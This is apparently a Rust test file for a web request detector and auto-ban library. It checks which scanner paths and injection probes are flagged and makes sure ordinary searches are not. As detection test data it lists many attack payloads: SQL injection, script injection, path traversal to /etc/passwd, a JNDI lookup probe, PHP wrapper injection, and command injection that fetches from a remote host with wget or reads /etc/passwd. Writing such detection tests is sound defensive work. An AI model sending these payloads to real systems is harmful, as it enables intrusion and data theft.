//! What counts as a suspicious request, and what does not.

use http::{Response, StatusCode, request, response};
use palisade_autoban::{
    AutoBan, AutoBanPolicy, Signature, SignatureKind, Signatures, SuspiciousPolicy,
    ViolationsPolicy,
};
use palisade_core::{
    Access, Code, Identity, IdentityKind, Policies, Policy, Rejection, RejectionKind, Route,
    SecurityContext, Verdict, ViolationKind,
};
use palisade_test_support::{Ask, Body};
use proptest::prelude::*;

use crate::{Bench, Who, code};

const BOT: Who<'_> = Who("203.0.113.9", None);

/// What stands further in: it answers, or refuses, or knows who it is.
#[derive(Clone, Copy)]
enum Inside {
    Answers(u16),
    Refuses(RejectionKind, Option<ViolationKind>),
    RefusesAs(&'static str),
    Proves,
}

impl Policy for Inside {
    fn name(&self) -> &'static str {
        "inside"
    }
    fn check(&self, head: &mut request::Parts, context: &SecurityContext) -> Verdict {
        match *self {
            Self::Refuses(kind, violation) => {
                let rejection = Rejection::new(kind, Code::new("inside", "Refused inside"));
                violation.map_or(rejection.clone(), |kind| rejection.violation(kind)).into()
            }
            Self::RefusesAs(code) => {
                Rejection::new(RejectionKind::Forbidden, Code::new(code, "Refused")).into()
            }
            Self::Proves => {
                context.credential(head);
                context.learn_identity(Identity::new("alice", IdentityKind::Jwt));
                Verdict::Pass
            }
            Self::Answers(_) => Verdict::Pass,
        }
    }
    fn finish(&self, _: &SecurityContext, answer: &mut response::Parts) {
        if let Self::Answers(status) = *self {
            answer.status = StatusCode::from_u16(status).unwrap();
        }
    }
}

fn policy(auto_ban: &AutoBan) -> SuspiciousPolicy {
    SuspiciousPolicy::new(auto_ban.clone(), Signatures::documented()).unwrap()
}

fn send(bench: &Bench, ask: Ask, route: &str, inside: Inside) -> Response<Body> {
    let context = bench.context(BOT);
    context.learn_route(Route::new(route, Access::Public));
    let stack =
        ViolationsPolicy::new(bench.auto_ban.clone()).then(policy(&bench.auto_ban)).then(inside);
    ask.context(&context).policies(stack)
}

/// How many violations one such request is.
fn counts(target: &str, route: &str, inside: Inside) -> u32 {
    let bench = Bench::new(|settings| settings);
    send(&bench, Ask::get(target), route, inside);
    let counted = bench.auto_ban.violations().counted;
    counted.total()
}

/// The signature that a request shows.
fn seen(target: &str) -> Option<String> {
    let auto_ban = AutoBan::builder().build().unwrap();
    seen_by(&policy(&auto_ban), target)
}

/// The signature that this policy saw, in this request or one before.
fn seen_by(policy: &SuspiciousPolicy, target: &str) -> Option<String> {
    let mut head = palisade_test_support::head(target);
    let _verdict = policy.check(&mut head, &palisade_test_support::context());
    policy.hits().into_iter().find(|hits| hits.seen > 0).map(|hits| hits.id)
}

#[test]
fn a_scanners_path_counts_only_where_nothing_is_served() {
    use Inside::{Answers, Refuses};
    let path = "/wp-login.php";
    assert_eq!(counts(path, "unmatched", Answers(404)), 1);
    assert_eq!(counts(path, "login", Answers(200)), 0, "this site has one");
    assert_eq!(counts(path, "login", Answers(401)), 0, "and asks for a password");
    assert_eq!(counts(path, "login", Answers(500)), 0);
    // Where authentication refuses first, nobody learns that there is nothing.
    let unauthenticated = Refuses(RejectionKind::Unauthenticated, None);
    assert_eq!(counts(path, "unmatched", unauthenticated), 1);
    assert_eq!(counts(path, "login", unauthenticated), 0);
    assert_eq!(counts(path, "unmatched", Refuses(RejectionKind::NotFound, None)), 1);
    assert_eq!(counts(path, "unmatched", Refuses(RejectionKind::MethodNotAllowed, None)), 1);
    assert_eq!(counts("/", "unmatched", Answers(404)), 0, "an ordinary path that is not there");
}

#[test]
fn p13_a_banned_or_blocked_client_that_scans_on_is_not_counted() {
    let refuses = Inside::Refuses(RejectionKind::Forbidden, None);
    assert_eq!(counts("/wp-login.php", "unmatched", refuses), 0);
    let bench = Bench::new(|settings| settings);
    for _ in 0..50 {
        send(&bench, Ask::get("/?q=%3Cscript%3Ealert"), "search", Inside::Answers(200));
    }
    assert_eq!(bench.auto_ban.violations().counted.total(), 6, "from the ban on it is not counted");
}

#[test]
fn p13_a_client_of_a_banned_network_and_one_of_the_blocklist_are_not_counted_on() {
    let bench = Bench::new(|settings| settings);
    bench.auto_ban.ban_ip("2001:db8::/48", palisade_autoban::BanOrder::by("alice")).unwrap();
    for number in 0..50 {
        let addr = format!("2001:db8:0:{number}::1");
        bench.auto_ban.report(&bench.context(Who(&addr, None)), ViolationKind::AuthFailure);
        let mut head = palisade_test_support::head("/?q=%3Cscript%3Ealert");
        let _pass = policy(&bench.auto_ban).check(&mut head, &bench.context(Who(&addr, None)));
    }
    assert_eq!(bench.auto_ban.violations().tracked, 0);
    let bans = bench.auto_ban.bans().ips;
    assert_eq!((bans.len(), &*bans[0].value), (1, "2001:db8::/48"));
    // A user who is banned whoever vouches for him.
    bench.auto_ban.ban_user("mallory", palisade_autoban::BanOrder::by("alice")).unwrap();
    let mallory = bench.context(Who("192.0.2.1", Some("mallory")));
    bench.auto_ban.report(&mallory, ViolationKind::RateLimit);
    assert_eq!(bench.auto_ban.violations().tracked, 0);
    for answer in ["blocked", "banned"] {
        let refuses = Inside::RefusesAs(answer);
        assert_eq!(counts("/?q=%3Cscript%3Ealert", "search", refuses), 0, "{answer}");
    }
    assert_eq!(counts("/?q=%3Cscript%3Ealert", "search", Inside::RefusesAs("other")), 1);
}

#[test]
fn a_probe_counts_at_once_whatever_the_answer_is() {
    for (target, answer) in [
        ("/?file=../../etc/passwd", 200),
        ("/?id=1%27%20OR%20%271%27=%271", 500),
        ("/%3Cscript%3Ealert", 404),
    ] {
        assert_eq!(counts(target, "search", Inside::Answers(answer)), 1, "{target}");
    }
    // A client that does not wait for the answer is counted too.
    let bench = Bench::new(|settings| settings);
    let mut head = palisade_test_support::head("/?x=$%7Bjndi:ldap://x%7D");
    let _pass = policy(&bench.auto_ban).check(&mut head, &bench.context(BOT));
    assert_eq!(bench.auto_ban.violations().counted.suspicious, 1);
}

#[test]
fn a_request_counts_once_even_if_another_layer_refuses_it_as_well() {
    for (target, kind) in [
        ("/../x", ViolationKind::Suspicious),
        ("/?q=%3Cscript%3Ealert", ViolationKind::Suspicious),
        ("/?q=%3Cscript%3Ealert", ViolationKind::AuthFailure),
        ("/wp-login.php", ViolationKind::RateLimit),
    ] {
        let refuses = Inside::Refuses(RejectionKind::NotFound, Some(kind));
        assert_eq!(counts(target, "unmatched", refuses), 1, "{target} {kind:?}");
    }
    // But nobody hides a heavy violation behind a light one.
    let bench = Bench::new(|settings| settings.weight(ViolationKind::AuthFailure, 3).threshold(50));
    let refuses = Inside::Refuses(RejectionKind::Unauthenticated, Some(ViolationKind::AuthFailure));
    send(&bench, Ask::get("/?q=%3Cscript%3Ealert"), "x", refuses);
    assert_eq!(bench.auto_ban.violations().offenders[0].weight, 4);
}

#[test]
fn a_scanner_does_not_hide_behind_a_wrong_token_that_weighs_less_or_nothing() {
    let refuses = Inside::Refuses(RejectionKind::Unauthenticated, Some(ViolationKind::AuthFailure));
    for (token, probe, weight) in [(0, 1, 1), (1, 3, 3), (1, 1, 1), (4, 3, 4)] {
        let weights = [(ViolationKind::AuthFailure, token), (ViolationKind::Suspicious, probe)];
        let bench = Bench::new(|settings| {
            let settings = settings.threshold(50);
            weights.into_iter().fold(settings, |settings, (kind, own)| settings.weight(kind, own))
        });
        send(&bench, Ask::get("/wp-login.php").bearer("garbage"), "unmatched", refuses);
        assert_eq!(bench.auto_ban.violations().offenders[0].weight, weight, "{weights:?}");
    }
}

#[test]
fn p2_what_a_page_of_another_site_makes_a_browser_send_bans_nobody() {
    let bench = Bench::new(|settings| settings.threshold(1));
    let ask = |target: &str, site: &str| {
        let ask = Ask::get(target).header("sec-fetch-site", site).bearer("a-victims");
        send(&bench, ask, "unmatched", Inside::Answers(404))
    };
    let answer = ask("/?q=%3Cscript%3Ealert", "cross-site");
    assert_eq!((answer.status(), code(&answer)), (StatusCode::BAD_REQUEST, "suspicious-request"));
    assert_eq!(ask("/wp-login.php", "cross-site").status(), StatusCode::NOT_FOUND);
    assert_eq!(bench.auto_ban.violations().tracked, 0);
    ask("/?q=%3Cscript%3Ealert", "same-origin");
    ask("/wp-login.php", "none");
    assert_eq!(bench.auto_ban.bans().ips.len(), 1);
}

#[test]
fn a_token_that_a_protected_client_brings_is_not_banned() {
    let bench = Bench::new(|settings| settings.protect(["203.0.113.0/24"]).threshold(1));
    for _ in 0..20 {
        let ask = Ask::get("/?q=%3Cscript%3Ealert").bearer("the-gateways");
        send(&bench, ask, "search", Inside::Proves);
    }
    assert_eq!(bench.auto_ban.bans().tokens, []);
    assert_eq!(bench.auto_ban.bans().ips, []);
}

#[test]
fn a_404_of_a_registered_route_counts_only_if_nobody_proved_who_he_is() {
    let asks = |route: &str, subject: Option<&str>| {
        let bench = Bench::new(|settings| settings);
        let context = bench.context(Who(BOT.0, subject));
        context.learn_route(Route::new(route, Access::Public));
        let stack = policy(&bench.auto_ban).then(Inside::Answers(404));
        Ask::get("/repos/mine/.env").context(&context).policies(stack);
        bench.auto_ban.violations().counted.suspicious
    };
    assert_eq!(asks("files", Some("alice")), 0, "a file of hers that is not there");
    assert_eq!(asks("files", None), 1);
    assert_eq!(asks("unmatched", Some("alice")), 1);
}

#[test]
fn a_probe_with_a_proven_token_counts_against_the_token_too() {
    let bench = Bench::new(|settings| settings);
    let present = |addr: &'static str| {
        let context = bench.context(Who(addr, None));
        let stack = AutoBanPolicy::new(bench.auto_ban.clone())
            .then(policy(&bench.auto_ban))
            .then(Inside::Proves);
        let ask = Ask::get("/?q=%3Cscript%3Ealert").bearer("stolen");
        code(&ask.context(&context).policies(stack))
    };
    // From a new address each time: no address is banned, the token is.
    for addr in ["192.0.2.1", "192.0.2.2", "192.0.2.3", "192.0.2.4", "192.0.2.5", "192.0.2.6"] {
        assert_eq!(present(addr), "");
    }
    assert_eq!(present("192.0.2.7"), "banned");
    let bans = bench.auto_ban.bans();
    assert_eq!((bans.tokens.len(), bans.ips.len(), bans.users.len()), (1, 0, 0));
    assert_eq!(bans.tokens[0].evidence.as_ref().unwrap().violations.suspicious, 6);
    assert_eq!(bench.auto_ban.unban_token("stolen", "alice").unwrap().len(), 1);
    assert_eq!(present("192.0.2.8"), "");
}

#[test]
fn a_probe_can_be_refused_at_once_and_then_counts_as_a_refusal() {
    let bench = Bench::new(|settings| settings);
    let ask = |target: &str| {
        let stack = ViolationsPolicy::new(bench.auto_ban.clone())
            .then(policy(&bench.auto_ban).refuse())
            .then(Inside::Answers(404));
        Ask::get(target).context(&bench.context(BOT)).policies(stack)
    };
    let answer = ask("/?q=%3Cscript%3Ealert");
    assert_eq!((answer.status(), code(&answer)), (StatusCode::BAD_REQUEST, "suspicious-request"));
    assert_eq!(bench.auto_ban.violations().counted.suspicious, 1);
    assert_eq!(
        ask("/wp-login.php").status(),
        StatusCode::NOT_FOUND,
        "a scanner is answered as usual"
    );
    assert_eq!(bench.auto_ban.violations().counted.suspicious, 2);
}

#[test]
fn real_probes_are_seen() {
    for (target, id) in [
        ("/.env", "scanner.dotfiles"),
        ("/.env.production", "scanner.dotfiles"),
        ("/app/.git/config", "scanner.dotfiles"),
        ("/.%65nv", "scanner.dotfiles"),
        ("/blog/WP-Login.php", "scanner.wordpress"),
        ("/phpMyAdmin/index.php", "scanner.database-admin"),
        ("/cgi-bin/luci/;stok=/locale", "scanner.cgi"),
        ("/actuator/heapdump", "scanner.actuator"),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "scanner.php"),
        ("/HNAP1", "scanner.devices"),
        ("/static/..%2f..%2fetc/passwd", "traversal.path"),
        ("/a/%2e%2e/%2e%2e/etc/passwd", "traversal.path"),
        ("/%252e%252e/%252e%252e/etc/passwd", "traversal.double-encoded"),
        ("/?f=..%2F..%2F..%2Fetc%2Fpasswd", "traversal.query"),
        ("/?f=/etc/passwd", "traversal.files"),
        ("/?f=image.php%00.png", "injection.null-byte"),
        ("/?id=-1+UNION+SELECT+1,2,3--", "injection.sql"),
        ("/?id=-1%20union%0aall%0aselect%201", "injection.sql"),
        ("/?id=1'+or+'1'='1", "injection.sql"),
        ("/?id=1%27%20union%20select%20null,null--", "injection.sql"),
        ("/?id=-1+union+all+select+1,2,3", "injection.sql"),
        ("/?q=1+union+select+password+from+users--", "injection.sql"),
        ("/?id=12+union+select+password+from+users--", "injection.sql"),
        ("/?id=1%22+UnIoN+aLl+SeLeCt+name", "injection.sql"),
        ("/?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-", "injection.sql"),
        ("/?id=1/*!50000union*/+/*!50000select*/+1", "injection.sql"),
        ("/?id=1%27%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--", "injection.sql"),
        ("/?id=1+AND+EXTRACTVALUE(7321,CONCAT(0x5c,0x7171,(SELECT+1)))", "injection.sql"),
        ("/?id=1)+AND+4=(SELECT+4+FROM+PG_SLEEP(5))", "injection.sql"),
        ("/?n=x%27;+drop+table+students;--", "injection.sql"),
        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", "injection.script"),
        ("/?q=%22%3E%3Cscript+src=//x%3E", "injection.script"),
        ("/?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "injection.php"),
        ("/?-d+allow_url_include%3don", "injection.php"),
        (
            "/?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5",
            "injection.php",
        ),
        ("/?file=file:///etc/passwd", "traversal.files"),
        ("/..%c0%af..%c0%afetc/passwd", "traversal.double-encoded"),
        ("/%c0%ae%c0%ae/%c0%ae%c0%ae/etc", "traversal.double-encoded"),
        ("/?a=%7Cwget%20http://1.2.3.4/x", "injection.command"),
        ("/?q=%22%3E%3Csvg/onload=alert(1)%3E", "injection.script"),
        ("/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", "injection.jndi"),
        ("/?host=1.1.1.1;cat%20/etc/passwd", "injection.command"),
        ("/?page=php://filter/convert.base64-encode/resource=index", "injection.php"),
        ("/?name=%7B%7B7*7%7D%7D", "injection.template"),
        (
            "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "injection.java",
        ),
    ] {
        assert_eq!(seen(target).as_deref(), Some(id), "{target}");
    }
}

#[test]
fn honest_requests_are_not_seen() {
    for target in [
        "/",
        "/index.html",
        "/posts/environment",
        "/docs/.well-known/security.txt",
        "/.well-known/acme-challenge/x",
        "/wp-admins-guide",
        "/git/config",
        "/environments/.environment",
        "/search?q=select+a+union",
        "/search?q=union+select-committee",
        "/search?q=drop+table+tennis",
        "/search?q=rock+%26+roll",
        "/search?q=1+%2B+1+%3D+2",
        "/search?q=O%27Brien+or+O%27Neill",
        "/search?q=what+is+/etc/passwd",
        "/search?q=C%3A%5CWindows",
        "/search?q=jndi+lookup",
        "/search?q=time.sleep(5)",
        "/search?q=document.cookie",
        "/search?q=%23+Title%0A%0A*+one%0A*+two%0A%60code%60",
        "/search?q=if+(a+%3C+b)+%7B+return+a%3B+%7D",
        "/search?q=%24%7Bname%7D+and+%7B%7Bname%7D%7D",
        "/search?q=std::vector%3Cint%3E",
        "/search?q=100%25",
        "/search?q=100%",
        "/search?q=../x",
        "/a..b/c...d",
        "/next?url=https%3A%2F%2Fexample.com%2Fa%2F..%2Fb",
        "/img?data=iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4%2F%2F8%2Fw38GIAXDIBKE0DHxgljNBAAO9TXL0Y4OHwAAAABJRU5ErkJggg%3D%3D",
        "/token?t=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        "/?filters%5Bprice%5D%5B%24gt%5D=5&sort=-price",
        "/?utm_source=news&utm_campaign=50%25+off%21",
        "/%E4%BD%A0%E5%A5%BD?%E4%BD%A0=%E5%A5%BD",
    ] {
        assert_eq!(seen(target), None, "{target}");
    }
}

/// What people type into the search of a site about databases, languages and systems.
const SEARCHES: [&str; 50] = [
    "union select example",
    "union all select",
    "sql union all select vs union distinct select",
    "select from information_schema.tables",
    "select * from information_schema.columns where table_name = 'users'",
    "select 'a' union select 'b'",
    "(select 1) union select 2",
    "select a from t where b = 1 or c = 2",
    "sql server waitfor delay '00:00:05'",
    "(select pg_sleep(5))",
    "mysql extractvalue(xml, path)",
    "extractvalue(1, 2)",
    "create table; drop table users",
    "drop table if exists",
    "union select null",
    "and sleep(5) or sleep(1)",
    "call_user_func_array",
    "call_user_func_array() php",
    "allow_url_include",
    "allow_url_include=1 in php.ini",
    "auto_prepend_file",
    "auto_prepend_file = none",
    "php://input vs $_POST",
    "php://filter",
    "data://text/plain;base64",
    "expect:// wrapper",
    "<?php echo 'hello'; ?>",
    "<?php phpinfo(); ?>",
    "<script setup>",
    "<script setup lang=\"ts\">",
    "<script type=\"module\" src=\"/a.js\">",
    "<script src=\"https://cdn.example/a.js\">",
    "<svg onload=\"init()\">",
    "onerror=alert",
    "javascript:alert('hello')",
    "class.module.classloader",
    "#_memberaccess ognl",
    "t(java.lang.runtime)",
    "cmd.exe /c start",
    "sh -c \"$(curl -fssl https://example.com/install.sh)\"",
    "apt update; wget https://example.com/a.deb",
    "ls /; cat /etc/os-release",
    "bash ${ifs}",
    "/etc/passwd",
    "/etc/passwd format",
    "/proc/self/environ",
    "c:\\windows\\win.ini",
    "file:///home/me/a.txt",
    "null byte %00 in c",
    "o'reilly union select-committee",
];

/// A search that asks while one types sends each beginning, six of which would be a ban.
#[test]
fn ordinary_searches_are_not_seen_nor_is_any_beginning_of_one() {
    let auto_ban = AutoBan::builder().build().unwrap();
    let policy = policy(&auto_ban);
    for sentence in SEARCHES {
        for (end, _) in sentence.char_indices().skip(1).chain([(sentence.len(), ' ')]) {
            let typed = sentence[..end].bytes();
            let encoded: String = typed.clone().map(|byte| format!("%{byte:02x}")).collect();
            let plus: String = typed
                .map(|byte| match byte {
                    b' ' => "+".to_owned(),
                    byte if byte.is_ascii_alphanumeric() => char::from(byte).to_string(),
                    byte if b"-_.:/;'()=,*".contains(&byte) => char::from(byte).to_string(),
                    byte => format!("%{byte:02X}"),
                })
                .collect();
            for target in
                [format!("/search?q={plus}&page=1"), format!("/search?lang=en&q={encoded}")]
            {
                assert_eq!(seen_by(&policy, &target), None, "{target}");
            }
        }
    }
}

#[test]
fn a_page_named_after_a_word_of_a_language_is_not_seen() {
    for path in [
        "/manual/en/function.call_user_func_array",
        "/manual/allow_url_include",
        "/docs/union%20select",
        "/wiki/php://input",
        "/man5/proc/self/environ",
        "/kr/%C0%AF%C0%C7",
        "/kr/%C0%AE.html",
        "/hash?info=%00%01%00.%12%00/&x=%00&y=1",
    ] {
        assert_eq!(seen(path), None, "{path}");
    }
}

#[test]
fn the_documented_signatures_are_such_as_one_may_add() {
    for signature in Signatures::documented().iter() {
        let own = Signatures::none().with(signature.clone());
        let auto_ban = AutoBan::builder().build().unwrap();
        SuspiciousPolicy::new(auto_ban, own).unwrap();
    }
}

/// What a real site was asked in four days, each target once, with the status of the answer.
const REAL_SITE: &str = include_str!("real-site.txt");

#[test]
fn of_a_real_sites_requests_only_those_of_scanners_count() {
    let bench = Bench::new(|settings| settings.threshold(u32::MAX));
    let policy = policy(&bench.auto_ban);
    let mut hits = Vec::new();
    for line in REAL_SITE.lines() {
        let (status, target) = line.split_once(' ').unwrap();
        let Ok(uri) = target.parse() else { continue };
        let before = bench.auto_ban.violations().counted;
        let mut head = palisade_test_support::head("/");
        head.uri = uri;
        let context = bench.context(BOT);
        let _pass = policy.check(&mut head, &context);
        let mut answer = Response::new(()).into_parts().0;
        answer.status = status.parse().unwrap();
        policy.finish(&context, &mut answer);
        if bench.auto_ban.violations().counted != before {
            hits.push(target);
        }
    }
    let scanned = [
        "/blog/wp-admin/",
        "/wordpress/wp-admin/",
        "/wp-admin/",
        "/wp-login.php",
        "/wp-login.php?action=register",
        "/wp/wp-admin/",
    ];
    assert_eq!(hits, scanned);
}

#[test]
fn a_wrong_signature_is_told() {
    let told = |signatures: Signatures| {
        let auto_ban = AutoBan::builder().build().unwrap();
        SuspiciousPolicy::new(auto_ban, signatures).unwrap_err().to_string()
    };
    let with = |kind, patterns: &[&'static str]| {
        told(Signatures::none().with(Signature::new("mine", kind, patterns.iter().copied())))
    };
    use SignatureKind::{Injection, Scanner};
    assert!(with(Scanner, &[]).contains("one pattern"));
    assert!(with(Scanner, &[""]).contains("4 to 256 bytes"));
    assert!(with(Scanner, &["/a"]).contains("4 to 256 bytes"));
    assert!(with(Scanner, &["wp-login.php"]).contains("begins with `/`"));
    assert!(with(Scanner, &["////"]).contains("a name"));
    assert!(with(Injection, &["select"]).contains("more than a word"));
    assert!(with(Injection, &["allow_url-include"]).contains("more than a word"));
    assert!(with(Injection, &["sel\nect"]).contains("visible ASCII"));
    let told_id = told(Signatures::documented().without("wordpress"));
    assert!(told_id.contains("did you mean `scanner.wordpress`?"), "{told_id}");
    let twice = Signature::new("scanner.cgi", Scanner, ["/cgi-bin/"]);
    assert!(told(Signatures::documented().with(twice)).contains("of its own"));
    let upper = Signature::new("Mine!", Scanner, ["/mine"]);
    assert!(told(Signatures::none().with(upper)).contains("lower case"));
}

#[test]
fn the_documented_set_can_be_changed() {
    let auto_ban = AutoBan::builder().build().unwrap();
    let ours = Signature::new("scanner.shop", SignatureKind::Scanner, ["/shop/admin.php"]);
    let signatures = Signatures::documented().without("scanner.wordpress").with(ours);
    let policy = SuspiciousPolicy::new(auto_ban, signatures).unwrap();
    for target in ["/wp-login.php", "/SHOP/admin.php"] {
        let mut head = palisade_test_support::head(target);
        let _verdict = policy.check(&mut head, &palisade_test_support::context());
    }
    let seen: Vec<_> = policy.hits().into_iter().filter(|hits| hits.seen > 0).collect();
    assert_eq!(seen.len(), 1);
    assert_eq!((&*seen[0].id, seen[0].kind), ("scanner.shop", "scanner"));
}

/// The fastest of many tries says what it costs, whatever else the machine does.
#[test]
fn a_request_of_64_kib_costs_no_more_than_a_constant_times_one_of_8() {
    let auto_ban = AutoBan::builder().build().unwrap();
    let policy = policy(&auto_ban);
    for unit in ["<scrip", "%2e%2", "../.", "%25%32", "union selec", "////", "+"] {
        let unit = unit.replace('<', "%3C").replace(' ', "+");
        let cost = |bytes: usize| {
            let query = unit.repeat(bytes / unit.len());
            let mut head = palisade_test_support::head(&format!("/{query}?{query}"));
            let context = palisade_test_support::context();
            let mut tries = (0..30).map(|_| {
                let begun = std::time::Instant::now();
                let _verdict = policy.check(&mut head, &context);
                begun.elapsed()
            });
            tries.next();
            tries.min().unwrap()
        };
        let (short, long) = (cost(8 * 1024), cost(31 * 1024));
        assert!(long < short * 3, "{unit}: {short:?} {long:?}");
    }
}

#[test]
fn of_a_path_the_first_8_kib_are_looked_at_and_of_a_query_both_ends() {
    let auto_ban = AutoBan::builder().build().unwrap();
    let policy = policy(&auto_ban);
    let hits = || policy.hits().iter().map(|hits| hits.seen).sum::<u64>();
    let is_seen = |target: String| {
        let before = hits();
        seen_by(&policy, &target);
        hits() > before
    };
    let (probe, kib) = ("%3Cscript%3Ealert", |count: usize| "a".repeat(count * 1024));
    assert!(is_seen(format!("/{}{probe}", &kib(8)[20..])));
    assert!(!is_seen(format!("/{}{probe}", kib(8))));
    assert!(is_seen(format!("/?{probe}{}", kib(24))));
    assert!(is_seen(format!("/?{}{probe}", kib(24))), "behind what nobody reads");
    assert!(!is_seen(format!("/?{}{probe}{}", kib(12), kib(12))), "in between");
    for before in (8 * 1024 - 20)..(8 * 1024 + 5) {
        let padding = "a".repeat(before);
        assert!(is_seen(format!("/?{padding}{probe}")), "{before}");
        assert!(is_seen(format!("/?{padding}{probe}{}", &kib(8)[40..])), "{before}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Nothing makes it panic.
    #[test]
    fn no_request_makes_it_panic(path in "(/[ -~]{0,40}){0,4}", query in "[ -~]{0,200}") {
        let target: String = format!("/{path}?{query}").chars().filter(|c| !" \"<>\\^`{|}#".contains(*c)).collect();
        if target.parse::<http::Uri>().is_ok() {
            seen(&target);
        }
    }

    /// A probe is seen wherever it stands in a query, in whatever case and however it is encoded.
    #[test]
    fn a_probe_is_seen_however_it_is_written(before in "[a-z=&]{0,50}", after in "[a-z=&]{0,50}", mask in any::<u64>()) {
        let probe: String = "<script>alert".bytes().enumerate().map(|(place, byte)| {
            let byte = if mask >> place & 1 == 1 { byte.to_ascii_uppercase() } else { byte };
            if mask >> (place + 16) & 1 == 1 || b"<>".contains(&byte) { format!("%{byte:02x}") } else { char::from(byte).to_string() }
        }).collect();
        prop_assert_eq!(seen(&format!("/?{before}{probe}{after}")), Some("injection.script".to_owned()));
    }
}
